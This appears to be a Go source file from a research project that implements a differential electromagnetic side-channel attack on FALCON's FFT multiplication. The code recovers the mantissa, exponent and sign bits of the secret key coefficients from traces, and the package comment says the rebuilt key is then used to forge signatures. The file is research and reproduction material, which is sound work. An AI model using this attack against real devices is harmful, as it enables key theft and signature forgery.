// Package core implements the paper's contribution: the differential
// electromagnetic attack on FALCON's floating-point FFT multiplication
// that recovers the secret key from known-plaintext traces.
//
// The attack is divide-and-conquer over the three fields of each 64-bit
// coefficient of FFT(f):
//
//   - the 53-bit mantissa, split as the multiplier splits it (high 28 /
//     low 25 bits), via the extend-and-prune strategy: correlation attacks
//     on the schoolbook partial products rank candidate halves ("extend",
//     which suffers shift-induced false positives), and the intermediate
//     additions that recombine the partial products disambiguate them
//     ("prune", which eliminates the false positives because addition
//     mixes in the other operand);
//   - the 11-bit exponent, from the exponent-adder micro-operations of
//     both multiplications that touch the secret value;
//   - the sign bit, from the sign-XOR micro-operations, with a fallback
//     joint attack through the complex-combine adder for coefficients
//     whose known operand never changes sign.
//
// Each secret value appears in two of the four real multiplications of
// its complex coefficient product (f.Re in c.Re·f.Re and c.Im·f.Re), so
// every phase accumulates evidence from both windows.
//
// Recovered coefficients are inverted through the (one-to-one) FFT to the
// integer polynomial f; g follows from the public key as g = h·f mod q;
// F, G are recomputed with the NTRU solver; and the resulting key signs
// arbitrary messages — the full break demonstrated by the paper.
//
// Campaigns are consumed either as in-memory slices ([]emleak.Observation)
// or as streamed tracestore.Source corpora that never fit in RAM; both
// drive the same accumulator jobs (jobs.go) and produce identical results.
package core

import (
	"errors"

	"falcondown/internal/cpa"
	"falcondown/internal/emleak"
	"falcondown/internal/fft"
	"falcondown/internal/fpr"
)

// Part selects which half of a complex FFT coefficient is under attack.
type Part int

// The two real values inside each complex coefficient.
const (
	PartRe Part = iota
	PartIm
)

// mulSlots returns the two multiplication windows whose *secret* operand
// is this part: f.Re appears in c.Re·f.Re and c.Im·f.Re, f.Im in
// c.Im·f.Im and c.Re·f.Im.
func (p Part) mulSlots() [2]int {
	if p == PartRe {
		return [2]int{emleak.MulReRe, emleak.MulImRe}
	}
	return [2]int{emleak.MulImIm, emleak.MulReIm}
}

// mulSlot returns the primary window (the one whose known operand matches
// the part), used by the single-window baseline attacks.
func (p Part) mulSlot() int { return p.mulSlots()[0] }

// knownFor extracts the adversary-known operand of the given window.
func knownFor(slot int, z fft.Cplx) fpr.FPR {
	if slot == emleak.MulReRe || slot == emleak.MulReIm {
		return z.Re
	}
	return z.Im
}

// known extracts the known operand of the part's primary window.
func (p Part) known(z fft.Cplx) fpr.FPR { return knownFor(p.mulSlot(), z) }

// Config tunes the attack.
type Config struct {
	// TopK candidates carried through each extend round and into the
	// prune phase (default 8).
	TopK int
	// Window is the number of mantissa bits guessed per extend round
	// (default 5).
	Window int
	// Confidence for significance reporting (default 0.9999, the paper's
	// 99.99 %).
	Confidence float64
	// EscalateBelow re-runs a value's mantissa attack with TopK×8 when
	// the prune-phase correlation lands below this (default 0.35): a weak
	// winner usually means the extend phase dropped the true prefix.
	EscalateBelow float64
	// Robust enables dirty-trace preprocessing (energy trimming,
	// cross-correlation resync, winsorized clamping) ahead of the attack
	// passes. The zero value disables it. All fields are scalars so
	// Config stays comparable for checkpoint binding.
	Robust RobustConfig
	// Workers sets the parallelism of the corpus passes (0 = one worker
	// per CPU). It is pure scheduling: the parallel engine folds partial
	// statistics in a pinned shard order, so results are bit-identical
	// for every worker count. Because of that it is excluded from
	// checkpoint binding — a campaign checkpointed at one worker count
	// resumes at any other.
	Workers int `json:"-"`
}

func (c Config) withDefaults() Config {
	if c.TopK == 0 {
		c.TopK = 8
	}
	if c.Window == 0 {
		c.Window = 5
	}
	if c.Confidence == 0 {
		c.Confidence = 0.9999
	}
	if c.EscalateBelow == 0 {
		c.EscalateBelow = 0.35
	}
	if c.TopK > maxTopK {
		c.TopK = maxTopK
	}
	return c
}

const (
	loBits = 25 // width of the mantissa low half D
	hiBits = 28 // width of the mantissa high half C (top bit implicitly 1)

	// maxTopK caps the candidate beam: the prune phase scores TopK² pairs
	// per trace, so the cap bounds the attack's worst-case cost.
	maxTopK = 64
)

// MaxBeam is the exported candidate-beam cap (the escalation and
// straggler phases run at this width).
const MaxBeam = maxTopK

// EffectiveTopK returns the mantissa candidate beam width after defaults
// are applied — what the extend/prune phases actually run with.
func (c Config) EffectiveTopK() int { return c.withDefaults().TopK }

// ValueResult reports one recovered 64-bit coefficient with per-phase
// diagnostics.
type ValueResult struct {
	Value fpr.FPR

	SignCorr float64 // correlation of the winning sign guess
	ExpCorr  float64 // correlation of the winning exponent guess
	// ExpAlternatives are exponent hypotheses statistically tied with the
	// winner (the ±2^k·m degeneracy family); RecoverKey falls back to them
	// when the assembled key fails its plausibility checks.
	ExpAlternatives []int
	PruneCorr       float64 // combined correlation of the winning mantissa pair
	RunnerUpGap     float64 // prune margin between winner and runner-up
	Escalated       bool    // the mantissa attack needed the TopK escalation
	Significant     bool    // winner above the Fisher-z confidence threshold
	TracesUsed      int
}

// errNoTraces reports an empty campaign.
var errNoTraces = errors.New("core: no traces supplied")

// magnitude is a recovered value without its sign bit.
type magnitude struct {
	biasedExp int
	expAlts   []int  // statistically tied exponent-family alternatives
	mant      uint64 // 52 stored bits
	expCorr   float64
	pruneCorr float64
	gap       float64
	escalated bool
}

// abs64 assembles the magnitude's positive FPR.
func (m magnitude) abs() fpr.FPR {
	return fpr.FPR(uint64(m.biasedExp)<<52 | m.mant)
}

// assembleMant recombines the pruned halves into the 52 stored bits
// (dropping the implicit leading one).
func assembleMant(d, c uint64) uint64 {
	return (c<<loBits | d) & ((uint64(1) << 52) - 1)
}

// attackMagnitude recovers exponent and mantissa (everything except the
// sign) of one secret value.
func attackMagnitude(obs []emleak.Observation, coeff int, part Part, cfg Config) magnitude {
	biasedExp, expCorr, expAlts := attackExponent(obs, coeff, part)
	d, c, pruneCorr, gap := mantissa(obs, coeff, part, cfg)
	escalated := false
	if pruneCorr < cfg.EscalateBelow && cfg.TopK < maxTopK {
		big := cfg
		big.TopK = min(cfg.TopK*8, maxTopK)
		if d2, c2, p2, g2 := mantissa(obs, coeff, part, big); p2 > pruneCorr {
			d, c, pruneCorr, gap = d2, c2, p2, g2
			escalated = true
		}
	}
	return magnitude{
		biasedExp: biasedExp,
		expAlts:   expAlts,
		mant:      assembleMant(d, c),
		expCorr:   expCorr,
		pruneCorr: pruneCorr,
		gap:       gap,
		escalated: escalated,
	}
}

// mantissa runs the extend-and-prune pipeline for both halves.
func mantissa(obs []emleak.Observation, coeff int, part Part, cfg Config) (d, c uint64, corr, gap float64) {
	dCands := extendHalf(obs, coeff, part, loBits, false, cfg)
	cCands := extendHalf(obs, coeff, part, hiBits, true, cfg)
	j := newPruneJob(coeff, part, dCands, cCands)
	feedSlice(obs, j)
	return j.result()
}

// AttackValue recovers the secret FPR at (coeff, part) from the campaign,
// using the direct sign-XOR attack for the sign bit (sufficient whenever
// the known operand's sign varies across traces; AttackCoefficient adds
// the joint fallback).
func AttackValue(obs []emleak.Observation, coeff int, part Part, cfg Config) (ValueResult, error) {
	cfg = cfg.withDefaults()
	if len(obs) == 0 {
		return ValueResult{}, errNoTraces
	}
	mag := attackMagnitude(obs, coeff, part, cfg)
	sign, signCorr := attackSign(obs, coeff, part)
	value := fpr.FPR(uint64(sign)<<63) | mag.abs()
	thr := cpa.Threshold(cfg.Confidence, len(obs))
	return ValueResult{
		Value:           value,
		SignCorr:        signCorr,
		ExpCorr:         mag.expCorr,
		ExpAlternatives: mag.expAlts,
		PruneCorr:       mag.pruneCorr,
		RunnerUpGap:     mag.gap,
		Escalated:       mag.escalated,
		Significant:     signCorr >= thr && mag.expCorr >= thr && mag.pruneCorr >= thr,
		TracesUsed:      len(obs),
	}, nil
}

// AttackCoefficient recovers the full complex coefficient k of FFT(f):
// both magnitudes independently, then the two sign bits jointly — first
// through the per-window sign-XOR attack and, where a known operand's
// sign never varies (mean-dominated low-index coefficients of the
// uncentered hash), through the complex-combine adder whose operands
// depend on both signs.
func AttackCoefficient(obs []emleak.Observation, coeff int, cfg Config) (fft.Cplx, [2]ValueResult, error) {
	cfg = cfg.withDefaults()
	if len(obs) == 0 {
		return fft.Cplx{}, [2]ValueResult{}, errNoTraces
	}
	magRe := attackMagnitude(obs, coeff, PartRe, cfg)
	magIm := attackMagnitude(obs, coeff, PartIm, cfg)
	sRe, sIm, signCorr := attackSignJoint(obs, coeff, magRe.abs(), magIm.abs())
	re := fpr.FPR(uint64(sRe)<<63) | magRe.abs()
	im := fpr.FPR(uint64(sIm)<<63) | magIm.abs()
	thr := cpa.Threshold(cfg.Confidence, len(obs))
	mk := func(m magnitude, v fpr.FPR) ValueResult {
		return ValueResult{
			Value:           v,
			SignCorr:        signCorr,
			ExpCorr:         m.expCorr,
			ExpAlternatives: m.expAlts,
			PruneCorr:       m.pruneCorr,
			RunnerUpGap:     m.gap,
			Escalated:       m.escalated,
			Significant:     signCorr >= thr && m.expCorr >= thr && m.pruneCorr >= thr,
			TracesUsed:      len(obs),
		}
	}
	return fft.Cplx{Re: re, Im: im}, [2]ValueResult{mk(magRe, re), mk(magIm, im)}, nil
}

// attackSign runs the two-hypothesis DEMA on the sign-XOR micro-ops of
// both windows touching the secret value. The correct guess has a
// positive correlation peak; the wrong one is its mirror image (the
// symmetry the paper notes in Fig. 4e).
func attackSign(obs []emleak.Observation, coeff int, part Part) (sign int, corr float64) {
	j := newSignJob(coeff, part)
	feedSlice(obs, j)
	return j.result()
}

// attackSignJoint resolves the two sign bits of a complex coefficient
// through the four-hypothesis replay attack (see jointSignJob).
func attackSignJoint(obs []emleak.Observation, coeff int, absRe, absIm fpr.FPR) (sRe, sIm int, corr float64) {
	j := newJointSignJob(coeff, absRe, absIm)
	feedSlice(obs, j)
	return j.result()
}

// attackExponent guesses the 11-bit biased exponent of the secret operand
// against the exponent-adder records HW(bex_c + bey − 1023) of both
// windows.
//
// A subtlety the paper does not discuss: the Hamming weight of an adder
// output has an exact degeneracy. When the known exponent's spread across
// traces stays below 2^k, every hypothesis offset by a multiple of 2^k
// whose addition never carries into the varying low bits predicts an
// affine-shifted leakage — and Pearson correlation is affine-invariant, so
// those hypotheses tie *exactly* with the truth, at any trace count. The
// ties sit ≥ 16–32 apart in practice (hashed-message exponents span a few
// powers of two), while the feasible exponents of FFT(f) coefficients
// concentrate around 1023 + log2(√(n/2)·σ_{f,g}); exact ties are broken
// toward that magnitude prior (see expJob.result).
func attackExponent(obs []emleak.Observation, coeff int, part Part) (biasedExp int, corr float64, alts []int) {
	j := newExpJob(coeff, part)
	feedSlice(obs, j)
	return j.result(2 * len(obs[0].CFFT))
}

func abs(v int) int {
	if v < 0 {
		return -v
	}
	return v
}

// candidate is a partially or fully recovered mantissa half.
type candidate struct {
	value uint64
	corr  float64
}

// extendHalf runs the extend phase over an in-memory campaign (one pass
// per round; see extendState).
func extendHalf(obs []emleak.Observation, coeff int, part Part, width int, high bool, cfg Config) []candidate {
	s := newExtendState(coeff, part, width, high, cfg)
	for !s.done() {
		j := s.beginRound()
		feedSlice(obs, j)
		s.endRound()
	}
	return s.cands
}

// PrimaryWindow exposes the part's primary multiplication window index
// (emleak slot) for the experiment harness.
func (p Part) PrimaryWindow() int { return p.mulSlot() }

// KnownOperand exposes the adversary-known operand of the part's primary
// window for the experiment harness.
func (p Part) KnownOperand(z fft.Cplx) fpr.FPR { return p.known(z) }
